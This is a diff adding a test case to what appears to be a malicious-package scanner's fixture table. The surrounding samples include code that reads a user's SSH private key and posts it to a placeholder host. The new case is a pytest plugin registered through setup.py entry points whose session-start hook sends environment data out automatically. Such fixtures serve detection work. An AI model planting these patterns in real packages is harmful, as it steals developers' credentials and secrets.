@@ -91,6 +91,14 @@ CASES = [
             "key = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
             "urllib.request.urlopen('https://k.x.invalid/u', data=key.encode())\n"),
     }, "malicious", ("PV303",), kind="wheel"),
+    Case("pytest11 plugin declared in setup.py's entry_points", "setup-pytest-plugin", {
+        "setup.py": ("from setuptools import setup\n\nsetup(name='setup-pytest-plugin', "
+                     "version='1.0', packages=['spplug'],\n"
+                     "      entry_points={'pytest11': ['spplug = spplug.plugin']})\n"),
+        "spplug/__init__.py": "",
+        "spplug/plugin.py": ("import json, os, urllib.request\n\n\n"
+                             "def pytest_sessionstart(session):\n" + SEND_ENV),
+    }, "malicious", ("PV303",)),
     # benign look-alikes
     Case("pytest plugin: fixtures, an HTTP test server and an option", "pytest-httpd", {
         "pytest_httpd/__init__.py": "",
